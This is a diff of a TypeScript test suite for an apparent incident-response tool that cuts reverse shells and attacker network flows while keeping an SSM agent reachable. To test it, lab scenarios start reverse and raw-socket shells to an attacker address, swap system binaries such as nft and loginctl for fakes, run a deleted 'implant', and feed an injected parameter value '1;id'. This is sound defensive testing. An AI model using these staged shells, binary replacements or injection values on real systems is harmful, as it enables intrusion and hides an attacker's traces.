@@ -142,7 +142,7 @@ const KINDS = [
   [POD, 'shell in another namespace'],
 ] as const;
 
-export const RUNS = Number(process.env['LAB_RUNS'] ?? 20);
+const RUNS = Number(process.env['LAB_RUNS'] ?? 20);
 
 async function everyKind(lab: Lab): Promise<void> {
   lab.start('reverse_shell', ATTACKER, SHELL);
@@ -164,8 +164,10 @@ function median(values: readonly number[]): number {
   return sorted.length % 2 === 1 ? (sorted[middle] ?? 0) : ((sorted[middle - 1] ?? 0) + (sorted[middle] ?? 0)) / 2;
 }
 
+export const MEASURED = `one cut ends every kind of flow, and the agent goes on (${RUNS} runs)`;
+
 scenarios.push({
-  title: `one cut ends every kind of flow, and the agent goes on (${RUNS} runs)`,
+  title: MEASURED,
   body: async () => {
     const last = new Map<number, number[]>();
     const took: number[] = [];
@@ -242,7 +244,7 @@ for (const order of ORDERS) {
     };
     for (const [index, step] of order.entries()) {
       const steps = order.slice(0, index + 1);
-      const model = aliveInWorld(steps);
+      const model = await aliveInWorld(steps);
       changes[step]();
       await sleep(300);
       const from = now();
@@ -300,6 +302,9 @@ scenario('parameters that are not what they should be: nothing is printed, nothi
     { SSM_CaseId: '' },
     { SSM_Pids: '1 2' },
     { SSM_Mode: 'both' },
+    { SSM_Sessions: 'yes' },
+    { SSM_Evidence: '51' },
+    { SSM_Evidence: '1;id' },
     ...[
       '010.0.0.5',
       '10.0.0.256',
@@ -490,15 +495,248 @@ scenario('quarantine: nothing new leaves but the agent', async (lab) => {
   assert.equal(lab.canDial(ATTACKER, 4448), true);
 });
 
-scenario('quarantine is taken back when the agent could reach its endpoint before and cannot after', async (lab) => {
-  await liveShell(lab);
+// ------------------------------------------------------------------------------------------------------------------ probes
+
+/** The agent's endpoint as its socket shows it; the packets go to the attacker's address, as through a proxy that was named. */
+const PROXIED = '203.0.113.9';
+
+async function proxiedAgent(lab: Lab): Promise<void> {
   lab.victim(
-    'printf "#!/bin/sh\\n[ ! -e /run/asked ] && : > /run/asked\\n" > /usr/bin/timeout.new && chmod +x /usr/bin/timeout.new && mv -f /usr/bin/timeout.new /usr/bin/timeout',
+    [
+      'nft add table ip proxy',
+      "nft 'add chain ip proxy out { type nat hook output priority -100 ; }'",
+      `nft add rule ip proxy out ip daddr ${PROXIED} tcp dport 443 dnat to ${ATTACKER}:4448`,
+    ].join(' && '),
   );
-  const { verdict } = lab.script('cut', { remote: 'none', environment: { SSM_Mode: 'quarantine' } });
-  assert.deepEqual([verdict.survived, verdict.errors.length], [0, 1]);
-  assert.equal(lab.canDial(ATTACKER, 4448), true);
+  lab.start('reverse_shell', ATTACKER, SHELL);
+  lab.startAgent(PROXIED);
+  await lab.alive(SHELL, 4448);
+}
+
+scenario('the probes: the peer cannot be reached any more, the agent can reach its endpoint', async (lab) => {
+  await liveShell(lab);
+  const { verdict, seconds } = lab.script('cut');
+  assert.deepEqual(verdict.probes, { peer: 'unreachable', agent: 'reachable' });
+  assert.ok(seconds < 5);
+  const idle = lab.script('cut');
+  assert.deepEqual(idle.verdict.probes, { peer: 'skipped', agent: 'reachable' });
 });
+
+scenario('a deny that cuts the agent off is taken back, and the verdict says so', async (lab) => {
+  await proxiedAgent(lab);
+  const { verdict } = lab.script('cut');
+  assert.deepEqual(verdict.errors, [
+    'the agent could not reach its endpoint behind the deny: the deny on this host is taken back',
+    'the host firewall does not hold the addresses',
+  ]);
+  assert.deepEqual(
+    [verdict.survived, verdict.firewall, verdict.denied, verdict.probes],
+    [0, 'none', [], { peer: 'skipped', agent: 'reachable' }],
+  );
+  assert.equal(lab.canDial(PROXIED, 443), true);
+});
+
+scenario('a quarantine that cuts the agent off is taken back', async (lab) => {
+  await proxiedAgent(lab);
+  const { verdict } = lab.script('cut', { remote: 'none', environment: { SSM_Mode: 'quarantine' } });
+  assert.deepEqual([verdict.survived, verdict.errors.length, verdict.probes?.agent], [0, 1, 'reachable']);
+  assert.equal(lab.canDial(PROXIED, 443), true);
+});
+
+scenario('a firewall that claims the deny and lets everything pass is found out by the probe', async (lab) => {
+  lab.start('stubborn_shell', ATTACKER, SHELL);
+  lab.startAgent();
+  await lab.alive(SHELL, AGENT);
+  lab.victim(
+    'mv /usr/sbin/nft /usr/sbin/nft-real && printf \'#!/bin/sh\\n[ "$1" = list ] && printf "hook input\\\\nhook output\\\\nhook forward\\\\njump peers\\\\njump peers\\\\njump peers\\\\n"\\nexit 0\\n\' > /usr/sbin/nft && chmod +x /usr/sbin/nft',
+  );
+  const { verdict } = lab.script('cut');
+  assert.deepEqual([verdict.probes?.peer, verdict.firewall], ['reachable', 'none']);
+  assert.ok(verdict.errors.includes(`${ATTACKER} can still be reached from this host`));
+});
+
+scenario('with nothing that can connect the probes are skipped', async (lab) => {
+  await liveShell(lab);
+  lab.victim('rm /usr/bin/bash /usr/bin/python3');
+  const { verdict } = lab.script('cut');
+  assert.deepEqual([verdict.survived, verdict.errors], [0, []]);
+  assert.deepEqual(verdict.probes, { peer: 'skipped', agent: 'skipped' });
+});
+
+// ------------------------------------------------------------------------------------------- ping, raw and packet sockets
+
+const BARE = [
+  ['ping', 'icmp'],
+  ['raw', 'raw'],
+  ['packet', 'raw'],
+] as const;
+
+scenario('ping, raw and packet sockets are listed and stopped, and killed where that is opted in', async (lab) => {
+  lab.victim('sysctl -qw net.ipv4.ping_group_range="0 1000"');
+  for (const [kind] of BARE) lab.start('raw_shell', kind, ATTACKER);
+  lab.startAgent();
+  await lab.until('the echoes arrive', () => lab.echoesSince(0) > 5);
+  const listed = lab.script('list', { remote: 'none' });
+  assert.deepEqual(
+    listed.flows
+      .map((flow) => [
+        flow.protocol,
+        flow.remoteAddress,
+        flow.remotePort,
+        flow.localPort,
+        flow.ipProtocol,
+        flow.process,
+      ])
+      .toSorted(),
+    [
+      ['icmp', '0.0.0.0', null, null, undefined, 'python3'],
+      ['raw', '0.0.0.0', null, null, 1, 'python3'],
+      ['raw', '0.0.0.0', null, null, null, 'python3'],
+    ].toSorted(),
+  );
+  const { flows, verdict, seconds } = lab.script('cut');
+  const cutAt = now();
+  // A kernel with raw_diag closes the raw one; none closes the other two.
+  assert.ok(verdict.survived === 2 || verdict.survived === 3);
+  assert.ok((verdict.stopped ?? []).length >= 2);
+  assert.ok(flows.filter(({ after }) => after === 'open').length === verdict.survived);
+  await sleep(500);
+  assert.equal(lab.echoesSince(cutAt), 0);
+  const killed = lab.script('cut', { environment: { SSM_Survivors: 'kill' } });
+  assert.equal(killed.verdict.survived, 0);
+  assert.equal(lab.script('list').verdict.listed, 0);
+  await lab.alive(AGENT);
+  return [`${seconds.toFixed(1)} s`];
+});
+
+scenario("a system daemon's raw and packet sockets are a note; nobody else's are, whatever its name", async (lab) => {
+  const wrong = lab.copyPython('/usr/local/sbin/dhclient');
+  const dhclient = lab.copyPython('/usr/sbin/dhclient');
+  const script = new URL('peers.py', import.meta.url).pathname;
+  const shell = (python: string, kind: string) =>
+    lab.startShell(`exec ${python} -u ${script} raw_shell ${kind} ${ATTACKER}`);
+  shell(dhclient, 'packet');
+  await lab.until('the daemon has its socket', () => lab.victim('ss -0an').includes('p_'));
+  const quiet = lab.script('cut', { remote: 'none' }).verdict;
+  assert.deepEqual([quiet.listed, quiet.survived, quiet.stopped], [0, 0, []]);
+  assert.match(quiet.notes?.join() ?? '', /\/usr\/sbin\/dhclient \(process \d+\) has a raw or packet socket/);
+  // A DHCP client needs no ICMP; another path is another program; a container's root has its own /usr/sbin.
+  shell(dhclient, 'raw');
+  shell(wrong, 'packet');
+  lab.startShell(`exec unshare --pid --fork ${dhclient} -u ${script} raw_shell packet ${ATTACKER}`);
+  await lab.until('all three are there', () => lab.script('list', { remote: 'none' }).verdict.listed === 3);
+});
+
+scenario("a container's root that calls itself the agent is closed like anybody", async (lab) => {
+  const script = new URL('peers.py', import.meta.url).pathname;
+  lab.startShell(`exec unshare --pid --fork /usr/bin/amazon-ssm-agent -u ${script} beacon ${ATTACKER} ${BEACON}`);
+  lab.startAgent();
+  await lab.alive(BEACON, AGENT);
+  const { verdict } = lab.script('cut');
+  assert.deepEqual([verdict.listed, verdict.survived], [1, 0]);
+  await lab.alive(AGENT);
+});
+
+// ---------------------------------------------------------------------------------------------------------------- evidence
+
+scenario(
+  'the processes behind the flows: tree, command line, open files and hash, also of a deleted executable',
+  async (lab) => {
+    const implant = lab.copyPython('/run/implant');
+    const sum = lab.victim(`sha256sum ${implant}`).slice(0, 64);
+    const script = new URL('peers.py', import.meta.url).pathname;
+    lab.startShell(
+      `cd /run && exec 7>/run/loot && env -i ${implant} -W 'ignore:a\tb|"c\\' -u ${script} reverse_shell ${ATTACKER} ${SHELL} & sleep 1; rm /run/implant /run/loot; wait`,
+    );
+    lab.startAgent();
+    await lab.alive(AGENT);
+    await lab.until('the shell is there', () =>
+      lab.events.some(({ kind, port }) => kind === 'accepted' && port === SHELL),
+    );
+    await sleep(1500);
+    const { processes = [], verdict, raw } = lab.script('cut');
+    const owner = processes.find(({ role }) => role === 'owner');
+    assert.equal(owner?.executable, '/run/implant (deleted)');
+    assert.equal(owner?.sha256, sum);
+    assert.equal(owner?.directory, '/run');
+    assert.match(owner?.commandLine ?? '', /-W ignore:a\?b\|"c\\ -u .*reverse_shell 198\.51\.100\.7 4444/);
+    assert.ok(owner?.openFiles.includes('/run/loot (deleted)'));
+    const child = processes.find(({ role, parentPid }) => role === 'descendant' && parentPid === owner?.pid);
+    assert.ok(child?.executable !== undefined && child.sha256 !== null);
+    assert.ok(processes.some(({ role, pid }) => role === 'ancestor' && pid === owner?.parentPid));
+    assert.deepEqual([verdict.processes, verdict.processesOmitted], [processes.length, 0]);
+    assert.ok(raw.length < 20_000);
+  },
+);
+
+scenario(
+  'evidence is bounded, can be turned off, and a command line without end does not hold the cut up',
+  async (lab) => {
+    await everyKind(lab);
+    assert.equal(lab.script('list').processes, undefined);
+    const none = lab.script('cut', { environment: { SSM_Evidence: 'none' } });
+    assert.equal(none.processes, undefined);
+    lab.script('undo');
+    lab.startShell(`exec sh -c 'sleep 600; :' ${'x'.repeat(100_000)}`);
+    lab.start('many', ATTACKER, 5000, 200);
+    await lab.until(
+      '200 sockets are open',
+      () => lab.events.some(({ kind, held }) => kind === 'ready' && held === 200),
+      20,
+    );
+    for (let n = 0; n < 8; n += 1) lab.start('stubborn_shell', ATTACKER, SHELL);
+    await lab.alive(SHELL);
+    const { processes = [], verdict, raw, flows } = lab.script('cut', { environment: { SSM_Evidence: '5' } });
+    assert.ok(processes.length <= 5 && processes.length > 0);
+    assert.equal(processes.length + (verdict.processesOmitted ?? 0) > 5, true);
+    assert.ok(raw.length <= 20_000 && flows.length + verdict.omitted === verdict.listed);
+    assert.ok((processes[0]?.commandLine?.length ?? 999) <= 256);
+  },
+);
+
+// ---------------------------------------------------------------------------------------------------------------- sessions
+
+scenario('Sessions=stop ends a login and what it left behind; keep leaves that running', async (lab) => {
+  const sshd = lab.copyPython('/usr/sbin/sshd');
+  await lab.dialIn(sshd);
+  await lab.alive(LOGIN);
+  lab.script('cut');
+  await sleep(300);
+  assert.equal(lab.running('nohup-left-behind'), true);
+  lab.script('undo');
+  lab.victim("kill $(grep -lsa '^nohup-left-behind' /proc/[0-9]*/cmdline | cut -d/ -f3)");
+  lab.redial();
+  const from = now();
+  await lab.until('a second login', () => lab.dataSince(LOGIN, from) > 1);
+  lab.victim(
+    [
+      'printf \'#!/bin/sh\\necho "$@" >> /run/loginctl\\ncase $1 in list-sessions) echo "c1 0 root"; echo "7 0 root pts/0";; show-session) [ "$2" = 7 ] && echo Remote=yes || echo Remote=no; echo Leader=99999;; esac\\n\' > /usr/bin/loginctl',
+      'chmod +x /usr/bin/loginctl',
+    ].join(' && '),
+  );
+  const { verdict } = lab.script('cut', { environment: { SSM_Sessions: 'stop' } });
+  assert.deepEqual([verdict.survived, verdict.sessionsEnded], [0, 2]);
+  assert.ok((verdict.killed ?? []).length >= 1);
+  assert.equal(lab.running('nohup-left-behind'), false);
+  assert.deepEqual(lab.victim('grep terminate /run/loginctl').trim(), 'terminate-session 7');
+  // Who accepts logins goes on.
+  assert.match(lab.victim('ss -tln'), /:22 /);
+});
+
+scenario("Sessions=stop ends the agent's sessions and not the agent", async (lab) => {
+  const worker = lab.copyPython('/usr/bin/ssm-session-worker');
+  const script = new URL('peers.py', import.meta.url).pathname;
+  lab.startShell(`exec ${worker} -u ${script} stubborn_shell ${ATTACKER} ${SHELL}`);
+  lab.startAgent();
+  await lab.alive(SHELL, AGENT);
+  assert.equal(lab.script('cut', { remote: 'none' }).verdict.listed, 0);
+  const { verdict } = lab.script('cut', { remote: 'none', environment: { SSM_Sessions: 'stop' } });
+  assert.deepEqual([verdict.listed, verdict.survived, verdict.sessionsEnded], [1, 0, 1]);
+  assert.equal(lab.running(worker), false);
+  await lab.alive(AGENT);
+});
+
+// ---------------------------------------------------------------------------------------------------------------- file names
 
 scenario('a file name made to look like a listing gives nobody the socket of another', async (lab) => {
   await liveShell(lab);
@@ -572,6 +810,16 @@ still('the Windows script uses only documented cmdlets and parameters (it is not
     for (const [, parameter = ''] of rest.matchAll(/\s-([A-Z]\w+)/g))
       assert.ok(allowed.includes(parameter), `${name} -${parameter}`);
   }
+});
+
+still('the Windows script finds the number of an RDP session, whatever its user is called', () => {
+  const text = readFileSync(`${root}documents/flowcut-host-windows.ps1`, 'utf8');
+  const pattern = new RegExp(/-notmatch '(\^\[ >\]rdp-tcp.*?)'/.exec(text)?.[1] ?? '(?!)');
+  const session = (line: string): string | undefined => pattern.exec(line)?.[1];
+  assert.equal(session('>rdp-tcp#3         Administrator             2  Active'), '2');
+  assert.equal(session(' rdp-tcp#12        7                        14  Aktiv   rdpwd'), '14');
+  assert.equal(session(' rdp-tcp                                 65536  Listen'), undefined);
+  assert.equal(session(' services                                    0  Disc'), undefined);
 });
 
 scenario('an agent from before ENV_VAR writes the parameters into the document itself', async (lab) => {
